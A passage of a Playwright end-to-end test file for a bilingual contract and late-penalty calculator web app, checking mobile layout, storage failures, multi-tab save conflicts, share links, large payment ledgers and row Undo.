            .map((e) => `${e.tagName.toLowerCase()}.${[...e.classList].join('.')} right=${Math.round(e.getBoundingClientRect().right)}`);
          // A table's hidden columns (逾期天数, 违约金) would be as bad: none scrolls inside its box.
          const tables = [...document.querySelectorAll('.table-wrap')]
            .filter((w) => w.getBoundingClientRect().width > 0 && w.scrollWidth > w.clientWidth + 1)
            .map((w) => `${w.querySelector('table')?.className} ${w.scrollWidth - w.clientWidth} px`);
          return { sw: document.documentElement.scrollWidth, wide, tables };
        });
        assert(sw <= 360, `${what}: the page is ${sw} px wide at 360 px (sticking out: ${wide.join('; ')})`);
        assert(tables.length === 0, `${what}: a table hides columns at 360 px: ${tables.join('; ')}`);
      };
      await check('the calculator');
      // Tappable: checkboxes with their labels, chips and the what-if's days at least 36 px tall.
      const small = await page.evaluate(() => [...document.querySelectorAll('.toggle, .chip, #f-what-if-days')]
        .filter((e) => { const r = e.getBoundingClientRect(); return r.width > 0 && r.height < 35.5; })
        .map((e) => `${e.className || e.id} ${Math.round(e.getBoundingClientRect().height)} px`));
      assertEq(JSON.stringify(small), '[]', 'controls under 36 px tall at 360 px');
      await page.locator('[data-testid=contract-total-card] summary').click();
      await page.getByTestId('cycle-table').waitFor({ state: 'visible' });
      await check('with the cycle table open');
      // The penalty breakdown (计算明细, curve, copy button) and a settlement, in English.
      await page.getByTestId('lang-toggle').click();
      await page.locator('#f-term-on').check();
      await page.locator('[data-card=late-penalty] > summary').click();
      await page.getByTestId('claim-table').waitFor();
      await check('with the penalty breakdown and a settlement, in English');
      // The 计算明细's periods on one line each, not broken inside a date.
      const broken = await page.evaluate(() => [...document.querySelectorAll('table.claim tbody td:first-child')]
        .filter((td) => td.getBoundingClientRect().height > 3 * parseFloat(getComputedStyle(td).fontSize))
        .map((td) => td.textContent));
      assertEq(JSON.stringify(broken), '[]', 'periods of the 计算明细 broken over lines at 360 px');
      await page.getByTestId('lang-toggle').click();
      await page.locator('#f-term-on').uncheck();
      await page.getByTestId('copy-link').click();
      await page.getByTestId('share-panel').waitFor();
      await check('with the share panel open');
      await page.getByTestId('toggle-list').click();
      await saveAs(page, '一个名字相当长的售后外包运营合同方案（二〇二五年度，含系统维护费用）');
      await check('with the saved list open');
      await field(page, FEE0).fill('abc');
      await page.getByTestId('stale').waitFor();
      await check('with a field error shown');
      await page.getByTestId('open-compare').click();
      await page.locator('.picker').waitFor();
      await page.getByTestId('compare-pick').first().check();
      await page.getByTestId('comparison').waitFor();
      await check('the comparison');
      // A long name beside it does not squash its checkbox.
      const box = await page.getByTestId('compare-pick').first().boundingBox();
      assert(box.width >= 18 && box.height >= 18, `the comparison's checkbox is ${box.width}×${box.height} px`);
    },
  },
  {
    name: 'without local storage the app still computes and says nothing will be kept',
    async run({ page, url }) {
      await page.addInitScript(() => {
        Object.defineProperty(window, 'localStorage', {
          configurable: true,
          get() {
            throw new DOMException('Access is denied for this document.', 'SecurityError');
          },
        });
      });
      await openApp(page, url);
      await expectText(page, TOTAL, STARTER_TOTAL);
      await expectBanner(page, '本地存储不可用');
      await expectText(page, '[data-testid=save-state]', '仅在内存中');
      await field(page, FEE0).fill('5万');
      await expectText(page, TOTAL, '¥660,000.00');
      // The language toggle works too, in memory.
      await page.getByTestId('lang-toggle').click();
      await expectText(page, 'h1', 'Service Outsourcing Contract Calculator');
      await expectText(page, '[data-testid=save-state]', 'in memory only');
      // Closing the tab would lose the work kept in memory: the browser asks first (and the
      // user leaves).
      const asked = beforeUnloadAsked(page, { leave: true });
      await page.close({ runBeforeUnload: true });
      assertEq(await asked, true, 'asked before closing with the work in memory only');
      if (!page.isClosed()) await page.waitForEvent('close');
    },
  },
  {
    name: 'two tabs: saving over the other tab\'s newer save keeps both versions and says so',
    async run({ page, context, url, errors }) {
      // Two tabs of one browser profile share local storage.
      await openApp(page, url);
      await saveAs(page, '共同方案');
      const tab2 = await secondTabWith(context, errors, url, '共同方案');
      // Both change the fee; tab 2 saves first.
      await field(page, FEE0).fill('40000');
      await expectText(page, TOTAL, '¥540,000.00');
      await field(tab2, FEE0).fill('30000');
      await expectText(tab2, TOTAL, '¥420,000.00');
      await tab2.getByTestId('save-current').click();
      await expectText(tab2, '[data-testid=save-state]', '已保存');
      // Tab 1 hears of it at once and keeps its own changes.
      await expectBanner(page, '另一窗口保存了“共同方案”的新版本');
      await expectText(page, TOTAL, '¥540,000.00');
      // Saving in tab 1 does not overwrite tab 2's version: tab 1's is kept as a copy.
      await page.getByTestId('save-current').click();
      await expectBanner(page, '本窗口的版本已另存为“共同方案（冲突副本）”');
      await expectText(page, NAME, '共同方案（冲突副本）');
      await expectText(page, '[data-testid=save-state]', '已保存');
      const fees = Object.fromEntries(savedEntries(await storage(page)).map((e) => [e.name, e.scenario.fees.components[0].amount]));
      assertEq(fees['共同方案'], '30000.00', 'tab 2\'s save');
      assertEq(fees['共同方案（冲突副本）'], '40000.00', 'tab 1\'s save, as a copy');
      // Nothing else was kept: tab 2's scratch copy of the saved scenario was no unsaved work.
      assertEq(Object.keys(fees).length, 2, `saved scenarios (${Object.keys(fees)})`);
      // Tab 2's list shows the copy without a reload.
      await savedRow(tab2, '共同方案（冲突副本）').waitFor();
    },
  },
  {
    name: 'two tabs: a rename in one tab shows in the other, and a save there keeps it',
    async run({ page, context, url, errors }) {
      await openApp(page, url);
      await saveAs(page, '原名');
      const tab2 = await secondTabWith(context, errors, url, '原名');
      // Tab 1 renames it.
      await savedRow(page, '原名').getByRole('button', { name: '重命名' }).click();
      const renaming = page.locator('[data-testid=saved-list] li', { has: page.locator('input[type=text]') });
      await renaming.locator('input[type=text]').fill('新名');
      await renaming.getByRole('button', { name: '确定' }).click();
      // Tab 2 shows the new name in its list, its title and its name field.
      await savedRow(tab2, '新名').waitFor();
      await expectText(tab2, NAME, '新名');
      assertEq(await field(tab2, 'name').inputValue(), '新名', 'the name field in tab 2');
      // A change saved in tab 2 keeps the new name: the rename is not undone.
      await field(tab2, FEE0).fill('40000');
      await tab2.getByTestId('save-current').click();
      await expectText(tab2, '[data-testid=save-state]', '已保存');
      const entries = savedEntries(await storage(tab2));
      assertEq(JSON.stringify(entries.map((e) => e.name)), JSON.stringify(['新名']), 'saved names');
      assertEq(entries[0].scenario.fees.components[0].amount, '40000.00', 'the fee saved in tab 2');
      assertEq(await bannerWith(tab2, '冲突副本').count(), 0, 'conflict banners');
      await expectText(page, NAME, '新名');
      // A rename half typed in tab 2 stays while tab 1 saves another scenario into the list.
      await savedRow(tab2, '新名').getByRole('button', { name: '重命名' }).click();
      const typing = tab2.locator('[data-testid=saved-list] li', { has: tab2.locator('input[type=text]') });
      await typing.locator('input[type=text]').fill('半截');
      await saveAs(page, '另一个');
      await savedRow(tab2, '另一个').waitFor();
      assertEq(await typing.locator('input[type=text]').inputValue(), '半截', 'the name being typed in tab 2');
      // The list drawn again keeps the keyboard in the name: typing goes on where it was.
      await tab2.keyboard.type('名字');
      assertEq(await typing.locator('input[type=text]').inputValue(), '半截名字', 'the name typed on in tab 2');
      await typing.getByRole('button', { name: '确定' }).click();
      await savedRow(tab2, '半截名字').waitFor();
    },
  },
  {
    name: 'two tabs: a scenario deleted in one tab stays on screen in the other, as unsaved work',
    async run({ page, context, url, errors }) {
      await openApp(page, url);
      await saveAs(page, '将删除');
      const tab2 = await secondTab(context, errors);
      await openApp(tab2, url);
      await tab2.getByTestId('toggle-list').click();
      await savedRow(tab2, '将删除').getByTestId('open-saved').click();
      await field(tab2, FEE0).fill('40000');
      await expectText(tab2, '[data-testid=save-state]', '有未保存的修改');
      await savedRow(page, '将删除').getByTestId('delete-saved').click();
      await expectBanner(tab2, '“将删除”已在另一窗口删除');
      await savedRow(tab2, '将删除').waitFor({ state: 'detached' });
      await expectText(tab2, NAME, '将删除');
      await expectText(tab2, TOTAL, '¥540,000.00');
      // Its work is scratch now: New keeps it as a draft.
      await tab2.getByTestId('new-scenario').click();
      await savedRow(tab2, '将删除（草稿）').waitFor();
    },
  },
  {
    name: 'two tabs: the autosaved draft of one tab is never overwritten by the other',
    async run({ page, context, url, errors }) {
      await openApp(page, url);
      const tab2 = await secondTab(context, errors);
      await openApp(tab2, url);
      await field(page, 'name').fill('一号窗口');
      await waitForStorage(page, (s) => s[WORKING_KEY]?.includes('一号窗口'), 'tab 1\'s draft');
      // Tab 2 started from the same draft; tab 1 has written since, so tab 2 keeps its own work
      // as a saved draft instead of writing over tab 1's.
      await field(tab2, 'name').fill('二号窗口');
      await expectBanner(tab2, '另一窗口也在编辑');
      await expectText(tab2, NAME, '二号窗口（草稿）');
      await field(tab2, FEE0).fill('40000');
      await waitForStorage(tab2, (s) => savedEntries(s).some((e) => e.name === '二号窗口（草稿）'
        && e.scenario.fees.components[0].amount === '40000.00'), 'tab 2\'s own draft, kept up to date');
      await tab2.waitForTimeout(300);
      let store = await storage(page);
      assert(store[WORKING_KEY].includes('一号窗口') && !store[WORKING_KEY].includes('二号窗口'), `the shared draft: ${store[WORKING_KEY].slice(0, 120)}`);
      // A reload of tab 2 shows its own draft again, not tab 1's.
      await reloadApp(tab2);
      await expectText(tab2, NAME, '二号窗口（草稿）');
      await expectText(tab2, TOTAL, '¥540,000.00');
      // Tab 1 goes on autosaving the shared draft.
      await field(page, FEE0).fill('30000');
      store = await waitForStorage(page, (s) => s[WORKING_KEY]?.includes('30000'), 'tab 1\'s next change');
      assert(store[WORKING_KEY].includes('一号窗口'), 'tab 1\'s draft');
    },
  },
  {
    name: 'storage full: edits of a linked scenario that cannot be kept for a reload are said',
    async run({ page, url }) {
      const court = fs.readFileSync(new URL('../fixtures/floating-lpr-court.json', import.meta.url), 'utf8');
      await page.goto(`${url}#${fragmentOf(court)}`);
      await page.locator('#shell').waitFor({ state: 'detached' });
      await expectText(page, PENALTY, '¥18,475.56');
      await setStorageFull(page, true);
      await field(page, 'name').fill('存储已满时的链接修改');
      await expectBanner(page, '无法在本窗口暂存对这个链接方案的修改');
      await setStorageFull(page, false);
    },
  },
  {
    name: 'storage full: New, Open and Import keep the unsaved work on screen and say so',
    async run({ page, url }) {
      await openApp(page, url);
      await saveAs(page, '已存方案');
      await field(page, 'name').fill('未保存的工作');
      await field(page, FEE0).fill('40000');
      await expectText(page, TOTAL, '¥540,000.00');
      await waitForStorage(page, (s) => s[WORKING_KEY]?.includes('未保存的工作'), 'the draft');
      const before = await storage(page);
      await setStorageFull(page, true);
      const keep = '未能把未保存的内容存为草稿';
      // Each refusal says so; the same notice is shown once, so each is closed before the next.
      const said = async () => {
        const b = await expectBanner(page, keep);
        assertEq(await bannerWith(page, keep).count(), 1, 'the same notice, stacked');
        await b.getByRole('button', { name: '关闭' }).click();
        await bannerWith(page, keep).waitFor({ state: 'detached' });
      };
      await page.getByTestId('new-scenario').click();
      await said();
      await expectText(page, NAME, '未保存的工作');
      await expectText(page, TOTAL, '¥540,000.00');
      await savedRow(page, '已存方案').getByTestId('open-saved').click();
      await said();
      await expectText(page, NAME, '未保存的工作');
      await expectText(page, TOTAL, '¥540,000.00');
      const file = { name: 'other.json', mimeType: 'application/json', buffer: Buffer.from(await exportedDraft(page, '导入的方案')) };
      await page.locator('#f-import').setInputFiles(file);
      await said();
      await expectText(page, NAME, '未保存的工作');
      await expectText(page, TOTAL, '¥540,000.00');
      assertEq(await bannerWith(page, '已导入').count(), 0, '"imported" banners');
      assertEq(JSON.stringify(await storage(page)), JSON.stringify(before), 'storage while full');
      // Room again: New keeps the work as a draft and moves on.
      await setStorageFull(page, false);
      await page.getByTestId('new-scenario').click();
      await expectText(page, NAME, STARTER_NAME);
      await savedRow(page, '未保存的工作（草稿）').waitFor();
      // …and says where it went.
      await expectBanner(page, '未保存的修改已另存为“未保存的工作（草稿）”（在“我的方案”中）');
      // Full again, with nothing unsaved: the import is shown, and said to be unsaved.
      await setStorageFull(page, true);
      await page.locator('#f-import').setInputFiles(file);
      await expectBanner(page, '已导入“导入的方案”，但未能保存');
      await expectText(page, NAME, '导入的方案');
      assertEq(await bannerWith(page, '已导入并保存').count(), 0, '"imported and saved" banners');
    },
  },
];

tests.push({
  name: 'an imported ledger of 5,000 payments opens at once with its first 200, and a payment added is seen',
  async run({ page, context, url, errors }) {
    await openApp(page, url);
    // The ten-year contract with 5,000 payments of ¥100, two a day from its 41st day.
    const ledger = (name, n, designate) => {
      const doc = JSON.parse(cli(['sample', 'ten-year']));
      const start = Date.parse(`${doc.contract.start}T00:00:00Z`);
      const day = (i) => new Date(start + (40 + Math.floor(i / 2)) * 86_400_000).toISOString().slice(0, 10);
      doc.name = name;
      doc.payment.payments = Array.from({ length: n }, (_, i) => ({ date: day(i), amount: '100.00', ...designate(i) }));
      return { name: `${name}.json`, mimeType: 'application/json', buffer: Buffer.from(JSON.stringify(doc)) };
    };
    const amounts = page.locator('[data-path^="payment.payments["][data-path$="].amount"]');
    await page.locator('#f-import').setInputFiles(ledger('五千笔付款', 5000, () => ({})));
    await expectText(page, NAME, '五千笔付款');
    await expectText(page, TOTAL, '¥6,000,000.00');
    // Only the first two hundred rows are drawn; a button stands for the rest.
    await expectText(page, '[data-testid=show-more-rows]', '再显示 200 行（还有 4800 行未显示）');
    assertEq(await amounts.count(), 200, 'payment rows drawn');
    // A payment added at the end is drawn after the button, where the user sees it.
    await page.getByTestId('add-payment').click();
    const added = field(page, 'payment.payments[5000].amount');
    await added.waitFor();
    assertEq(await amounts.count(), 201, 'payment rows drawn after adding one');
    // Typed wrong, it is refused where it is, and nothing more is drawn.
    await added.fill('12,3');
    await page.waitForFunction(() => document.querySelector('[data-path="payment.payments[5000].amount"]')?.getAttribute('aria-invalid') === 'true');
    assertEq(await amounts.count(), 201, 'payment rows drawn with the added one wrong');
    // Removed again, no old row comes into view in its place.
    await added.locator('xpath=ancestor::div[contains(@class,"row")][1]').locator('button.remove').click();
    await added.waitFor({ state: 'detached' });
    assertEq(await amounts.count(), 200, 'payment rows drawn after removing the added one');
    await expectText(page, '[data-testid=show-more-rows]', '再显示 200 行（还有 4800 行未显示）');
    // "Show more" draws the next 200 and keeps the keyboard's focus on the button.
    await page.getByTestId('show-more-rows').click();
    await expectText(page, '[data-testid=show-more-rows]', '再显示 200 行（还有 4600 行未显示）');
    assertEq(await amounts.count(), 400, 'payment rows drawn after showing more');
    assertEq(await page.evaluate(() => document.activeElement?.dataset.testid), 'show-more-rows', 'the focus after showing more');
    // Another ledger of the same length imported is another list: its first 200 rows again.
    await page.locator('#f-import').setInputFiles(ledger('又五千笔付款', 5000, () => ({})));
    await expectText(page, NAME, '又五千笔付款');
    await expectText(page, '[data-testid=show-more-rows]', '再显示 200 行（还有 4800 行未显示）');
    assertEq(await amounts.count(), 200, 'payment rows drawn of a ledger of the same length');
    // A newer version of this same ledger saved in another tab is shown with the rows drawn here.
    await page.getByTestId('show-more-rows').click();
    await expectText(page, '[data-testid=show-more-rows]', '再显示 200 行（还有 4600 行未显示）');
    const tab2 = await secondTabWith(context, errors, url, '又五千笔付款');
    await field(tab2, FEE0).fill('40000');
    await tab2.getByTestId('save-current').click();
    await expectBanner(page, '另一窗口保存了“又五千笔付款”的新版本，已显示该版本。');
    assertEq(await field(page, FEE0).inputValue(), '40000.00', 'the fee saved in the other tab');
    assertEq(await amounts.count(), 400, 'payment rows drawn after the other tab saved');
    await tab2.close();
    // A payment far down the list designated for December 2025: a contract terminated on 30
    // November leaves no period starting on 1 December, and the row with the message is drawn to show it,
    // alone, numbered, not with the fifty rows before it.
    await page.locator('#f-import').setInputFiles(ledger('三百笔付款', 300, (i) => (i === 250 ? { for: '2025-12-01' } : {})));
    await expectText(page, NAME, '三百笔付款');
    assertEq(await amounts.count(), 200, 'payment rows drawn of the second ledger');
    await field(page, 'termination.date').fill('2025-11-30');
    const wrong = field(page, 'payment.payments[250].for');
    await wrong.waitFor();
    assertEq(await wrong.getAttribute('aria-invalid'), 'true', 'the designated period is refused');
    assertEq(await amounts.count(), 201, 'payment rows drawn with row 251 wrong');
    await expectText(page, '[data-testid=pinned-row] .row-at', '第 251 行');
    await expectText(page, '[data-testid=show-more-rows]', '再显示 99 行（还有 99 行未显示）');
    // Corrected (no period designated), it stays under the caret.
    await wrong.fill('');
    await page.waitForFunction(() => document.querySelector('[data-path="payment.payments[250].for"]')?.getAttribute('aria-invalid') !== 'true');
    assertEq(await amounts.count(), 201, 'payment rows drawn once row 251 is corrected');
    assertEq(await page.evaluate(() => document.activeElement?.dataset.path), 'payment.payments[250].for', 'the focus once row 251 is corrected');
    // "Show more" draws it in its place, once.
    await page.getByTestId('show-more-rows').click();
    await page.getByTestId('show-more-rows').waitFor({ state: 'detached' });
    assertEq(await amounts.count(), 300, 'payment rows drawn after showing the rest');
    assertEq(await page.getByTestId('pinned-row').count(), 0, 'rows drawn out of sequence after showing the rest');
    assertEq(await wrong.count(), 1, 'row 251\'s period fields');
  },
});

tests.push({
  name: 'a row removed by mistake comes back with Undo, until something else is changed',
  async run({ page, url }) {
    await openApp(page, url);
    const amounts = page.locator('[data-path^="payment.payments["][data-path$="].amount"]');
    assertEq(await amounts.count(), 4, 'the starter\'s payments');
    const second = await field(page, 'payment.payments[1].amount').inputValue();
    const penalty = (await page.locator(PENALTY).textContent()).trim();
    const removeSecond = () => field(page, 'payment.payments[1].amount')
      .locator('xpath=ancestor::div[contains(@class,"row")][1]').locator('button.remove').click();
    // A tap on the second payment's "×": gone, and offered back.
    await removeSecond();
    await expectText(page, '[data-testid=row-removed] span', '已删除第 2 行');
    assertEq(await amounts.count(), 3, 'payments after the removal');
    // The focus is on Undo, not on the next row's "×", a second tap away from removing it too.
    await page.waitForFunction(() => document.activeElement?.dataset.testid === 'undo-remove-row');
    await page.getByTestId('undo-remove-row').click();
    await page.getByTestId('row-removed').waitFor({ state: 'detached' });
    assertEq(await amounts.count(), 4, 'payments after Undo');
    assertEq(await field(page, 'payment.payments[1].amount').inputValue(), second, 'the second payment back');
    await expectText(page, PENALTY, penalty);
    // Removed again, then a fee typed: the offer goes, since Undo would undo the fee too.
    await removeSecond();
    await page.getByTestId('row-removed').waitFor();
    await field(page, FEE0).fill('46000');
    await page.getByTestId('row-removed').waitFor({ state: 'detached' });
    assertEq(await amounts.count(), 3, 'payments once another field changed');
  },
});

tests.push({
  name: 'a field left wrong: the bar does not say the draft is kept, and the browser asks before the page is closed',
  async run({ page, url }) {
    await openApp(page, url);
    await expectText(page, '[data-testid=save-state]', '草稿已自动保存');
    const fee = field(page, FEE0);
    await fee.click();
    await page.keyboard.press('End');
    await page.keyboard.type('x');
    await expectText(page, '[data-testid=save-state]', '输入有误，草稿暂未更新：改正后自动保存');
    assertEq(await page.getByTestId('save-state').evaluate((e) => e.classList.contains('not-kept')), true, 'the state shown as a warning');
    // Closing the tab now would lose what was typed: the browser asks first.
    const asked = beforeUnloadAsked(page);
    await page.close({ runBeforeUnload: true });
    assertEq(await asked, true, 'asked before closing with a field wrong');
    assertEq(page.isClosed(), false, 'the page, the close dismissed');
    // Fixed, it is kept again.
    await page.keyboard.press('Backspace');
    await expectText(page, '[data-testid=save-state]', '草稿已自动保存');
    // A saved scenario with a field wrong has unsaved changes, not "saved".
    await saveAs(page, '甲方合同');
    await expectText(page, '[data-testid=save-state]', '已保存');
    await fee.click();
    await page.keyboard.press('End');
    await page.keyboard.type('x');
    await expectText(page, '[data-testid=save-state]', '有未保存的修改');
  },
});

tests.push({
  name: 'a reload keeps the saved scenario open with its unsaved changes and its one Save button',
  async run({ page, context, url, errors }) {
    await openApp(page, url);
    await saveAs(page, '甲方合同');
    await field(page, FEE0).fill('46000');
    await expectText(page, TOTAL, '¥612,000.00');
    await expectText(page, '[data-testid=save-state]', '有未保存的修改');
    // Saving over the open scenario and saving as a new one are told apart.
    await expectText(page, '[data-testid=save-current]', '保存');
    await expectText(page, '[data-testid=save-as]', '另存为新方案');
    await reloadApp(page);
    await expectText(page, TOTAL, '¥612,000.00');
    await expectText(page, '[data-testid=save-state]', '有未保存的修改');
    await page.getByTestId('save-current').click();
    await expectText(page, '[data-testid=save-state]', '已保存');
    const entry = savedEntries(await storage(page)).find((e) => e.name === '甲方合同');
    assertEq(entry?.scenario?.fees?.components?.[0]?.amount, '46000.00', 'the saved fee');
    await reloadApp(page);
    await expectText(page, '[data-testid=save-state]', '已保存');
    assertEq(await page.getByTestId('save-current').count(), 0, 'Save buttons with nothing to save');
    // The revision saved is the one the tab holds after the reload: saving again overwrites, it
    // does not make a conflicted copy.
    await field(page, FEE0).fill('47000');
    await expectText(page, '[data-testid=save-state]', '有未保存的修改');
    await page.getByTestId('save-current').click();
    await expectText(page, '[data-testid=save-state]', '已保存');
    const entries = savedEntries(await storage(page));
    assertEq(JSON.stringify(entries.map((e) => e.name)), JSON.stringify(['甲方合同']), 'saved scenarios after the second Save');
    assertEq(entries[0].scenario.fees.components[0].amount, '47000.00', 'the saved fee after the second Save');
    await page.waitForTimeout(400);
    await reloadApp(page);
    await expectText(page, '[data-testid=save-state]', '已保存');
    // New leaves the saved scenario: a reload then shows the scratch draft, not the saved one.
    await page.getByTestId('new-scenario').click();
    await expectText(page, '[data-testid=save-state]', '草稿已自动保存');
    await reloadApp(page);
    await expectText(page, '[data-testid=save-state]', '草稿已自动保存');
    // Once another tab has written the shared draft, a reload does not tie that tab's work to
    // the saved scenario: one Save would have overwritten it.
    await page.getByTestId('toggle-list').click();
    await savedRow(page, '甲方合同').getByTestId('open-saved').click();
    await expectText(page, '[data-testid=save-state]', '已保存');
    await page.waitForTimeout(400);
    const other = await secondTab(context, errors);
    await openApp(other, url);
    await field(other, FEE0).fill('20000');
    await other.waitForTimeout(400);
    await reloadApp(page);
    await expectText(page, TOTAL, '¥300,000.00');
    await expectText(page, '[data-testid=save-state]', '草稿已自动保存');
    assertEq(await page.getByTestId('save-current').count(), 0, 'Save buttons for another tab\'s work');
  },
});

tests.push({
  name: 'a link pasted into a tab with a draft of its own: no Save over that draft, and discarding goes back to it',
  async run({ page, context, url, errors }) {
    const court = fs.readFileSync(new URL('../fixtures/floating-lpr-court.json', import.meta.url), 'utf8');
    await openApp(page, url);
    await field(page, 'name').fill('甲的草稿');
    await field(page, FEE0).fill('46000');
    await page.waitForTimeout(400);
    // Another tab writes the shared draft: this tab's work becomes a draft of its own when it goes.
    const other = await secondTab(context, errors);
    await openApp(other, url);
    await field(other, FEE0).fill('20000');
    await other.waitForTimeout(400);
    await page.evaluate((f) => { location.hash = f; }, fragmentOf(court));
    await page.waitForFunction(() => !document.getElementById('shell')
      && document.querySelector('[data-testid=contract-total]')?.textContent === '¥320,000.00', null, { timeout: 10_000 });
    await field(page, 'name').fill('改过的链接');
    await expectText(page, '[data-testid=save-state]', '来自链接，未保存');
    assertEq(await page.getByTestId('save-current').count(), 0, 'Save buttons while a link is shown');
    await bannerWith(page, '分享链接打开的方案').getByRole('button', { name: '放弃，回到我的方案' }).click();
    await expectText(page, TOTAL, '¥612,000.00');
    assert((await textOf(page, NAME)).startsWith('甲的草稿'), `back to this tab's own draft: ${await textOf(page, NAME)}`);
    // Kept once: the link and the page going did not each make a copy.
    assertEq(await storedNames(page), JSON.stringify(['甲的草稿（草稿）']), 'saved scenarios');
  },
});

tests.push({
  name: 'a share link pasted into the open tab opens it, and the work on screen is kept',
  async run({ page, url }) {
    const court = fs.readFileSync(new URL('../fixtures/floating-lpr-court.json', import.meta.url), 'utf8');
    await openApp(page, url);
    await field(page, FEE0).fill('46000');
    await expectText(page, TOTAL, '¥612,000.00');
    // Only the fragment changes: the browser itself would not load the page again.
    await page.evaluate((f) => { location.hash = f; }, fragmentOf(court));
    await expectText(page, TOTAL, '¥320,000.00');
    await page.locator('#shell').waitFor({ state: 'detached' });
    await expectBanner(page, '分享链接打开的方案');
    const draft = JSON.parse((await storage(page))[WORKING_KEY]);
    assertEq(draft.fees.components[0].amount, '46000.00', 'the working draft, untouched');
    // Edits to that linked scenario are kept as a draft before the next pasted link opens.
    await field(page, 'name').fill('改过的法院案例');
    await page.evaluate((f) => { location.hash = f; }, fragmentOf(court.replace('货款320000', '另一个链接')));
    await page.waitForFunction(() => !document.getElementById('shell') && document.querySelector('[data-testid=scenario-name]')?.textContent.includes('另一个链接'), null, { timeout: 10_000 });
    await expectText(page, NAME, '另一个链接 · 按同期一年期LPR（360天）');
    await page.getByTestId('toggle-list').click();
    await savedRow(page, '改过的法院案例（草稿）').waitFor();
    // The scratch draft needs no copy: the link left it as it was.
    assertEq(JSON.stringify(await savedNames(page)), JSON.stringify(['改过的法院案例（草稿）']), 'drafts kept');
  },
});

/** Pastes the share link `fragment` into the address bar of `page` (only the fragment changes,
 *  as when a link is pasted into an open tab) and waits until the app shows a scenario named
 *  with `name`. */
async function pasteLink(page, fragment, name) {
  await page.evaluate((f) => { location.hash = f; }, fragment);
  await page.waitForFunction((n) => !document.getElementById('shell')
    && document.querySelector('[data-testid=scenario-name]')?.textContent.includes(n), name, { timeout: 10_000 });
}

/** The names of the saved scenarios in local storage, sorted. */
async function storedNames(page) {
  return JSON.stringify(savedEntries(await storage(page)).map((e) => e.name).sort());
}

tests.push({
  name: 'a pasted link keeps the work on screen once, also in a tab whose shared draft another tab took',
  async run({ page, context, url, errors }) {
    const court = fs.readFileSync(new URL('../fixtures/floating-lpr-court.json', import.meta.url), 'utf8');
    // Tab 1 works on a scratch scenario; tab 2 then writes the shared draft.
    await openApp(page, url);
    await field(page, 'name').fill('一号的工作');
    await waitForStorage(page, (s) => s[WORKING_KEY]?.includes('一号的工作'), 'tab 1\'s draft');
    const other = await secondTab(context, errors);
    await openApp(other, url);
    await field(other, FEE0).fill('20000');
    await waitForStorage(other, (s) => s[WORKING_KEY]?.includes('20000'), 'tab 2\'s draft');
    // A link pasted into tab 1 opens; tab 1's work is kept as a draft, once.
    await pasteLink(page, fragmentOf(court), '货款320000');
    await page.waitForTimeout(400);
    assertEq(await storedNames(page), JSON.stringify(['一号的工作（草稿）']), 'saved scenarios after the link');
  },
});

tests.push({
  name: 'a pasted link keeps unsaved changes to a saved scenario once, in a tab whose shared draft another tab took',
  async run({ page, context, url, errors }) {
    const court = fs.readFileSync(new URL('../fixtures/floating-lpr-court.json', import.meta.url), 'utf8');
    await openApp(page, url);
    await saveAs(page, '甲方合同');
    await page.waitForTimeout(400);
    const other = await secondTab(context, errors);
    await openApp(other, url);
    await field(other, FEE0).fill('20000');
    await waitForStorage(other, (s) => s[WORKING_KEY]?.includes('20000'), 'tab 2\'s draft');
    // Tab 1 changes its saved scenario without saving, then a link is pasted into it.
    await field(page, FEE0).fill('46000');
    await expectText(page, '[data-testid=save-state]', '有未保存的修改');
    await pasteLink(page, fragmentOf(court), '货款320000');
    await page.waitForTimeout(400);
    assertEq(await storedNames(page), JSON.stringify(['甲方合同', '甲方合同（草稿）']), 'saved scenarios after the link');
    const draft = savedEntries(await storage(page)).find((e) => e.name === '甲方合同（草稿）');
    assertEq(draft.scenario.fees.components[0].amount, '46000.00', 'the unsaved change, kept');
  },
});

tests.push({
  name: 'links pasted again and again: an edited link is kept once, a link never edited is not copied',
  async run({ page, url }) {
    const court = fs.readFileSync(new URL('../fixtures/floating-lpr-court.json', import.meta.url), 'utf8');
    const a = fragmentOf(court);
    const b = fragmentOf(court.replace('货款320000', '另一个链接'));
    // Link A opens in a tab; B is pasted over it, A again, B again: nothing was edited, and
    // each link stays in the tab's history, so nothing is kept.
    await page.goto(`${url}#${a}`);
    await page.locator('#shell').waitFor({ state: 'detached' });
    await expectText(page, TOTAL, '¥320,000.00');
    await pasteLink(page, b, '另一个链接');
    await pasteLink(page, a, '货款320000');
    await pasteLink(page, b, '另一个链接');
    await page.waitForTimeout(400);
    assertEq(await storedNames(page), '[]', 'saved scenarios after unedited links');
    // B edited: kept as a draft when A is pasted; opened and left again unedited, no copy.
    await field(page, 'name').fill('改过的B');
    await pasteLink(page, a, '货款320000');
    await pasteLink(page, b, '另一个链接');
    await pasteLink(page, a, '货款320000');
    await page.waitForTimeout(400);
    assertEq(await storedNames(page), JSON.stringify(['改过的B（草稿）']), 'saved scenarios after the edited link');
    // The same edit opened from its draft and pasted over is held by that draft already.
    await page.getByTestId('toggle-list').click();
    await savedRow(page, '改过的B（草稿）').waitFor();
    await field(page, 'name').fill('改过的B');
    await pasteLink(page, b, '另一个链接');
    await page.waitForTimeout(400);
    assertEq(await storedNames(page), JSON.stringify(['改过的B（草稿）']), 'saved scenarios after the same edit again');
  },
});

tests.push({
  name: 'a reload right after a Save, with a field being retyped, makes no conflicted copy; another tab\'s save still does',
  async run({ page, context, url, errors }) {
    await openApp(page, url);
    await saveAs(page, '甲方合同');
    await field(page, FEE0).fill('46000');
    await page.waitForTimeout(400);
    await page.getByTestId('save-current').click();
    await expectText(page, '[data-testid=save-state]', '已保存');
    // The user empties a field to retype it (the form cannot be written meanwhile) and reloads,
    // leaving when the browser asks.
    await field(page, FEE1).fill('');
    await page.waitForTimeout(400);
    const asked = beforeUnloadAsked(page, { leave: true });
    await reloadApp(page);
    assertEq(await asked, true, 'asked before reloading with a field empty');
    await expectText(page, TOTAL, '¥612,000.00');
    await expectText(page, '[data-testid=save-state]', '已保存');
    // Saving again overwrites: no other tab saved anything.
    await field(page, FEE0).fill('47000');
    await page.getByTestId('save-current').click();
    await expectText(page, '[data-testid=save-state]', '已保存');
    assertEq(await storedNames(page), JSON.stringify(['甲方合同']), 'saved scenarios after the Save');
    assertEq(await bannerWith(page, '冲突副本').count(), 0, 'conflict banners');
    assertEq(savedEntries(await storage(page))[0].scenario.fees.components[0].amount, '47000.00', 'the saved fee');
    // Two tabs really editing it: the other saves first, so this tab's Save keeps both. The other
    // tab opens once this tab's draft holds the Save (autosave pauses 250 ms): an older draft
    // would be other work, which opening a saved scenario rightly keeps as a copy first.
    await page.waitForFunction(
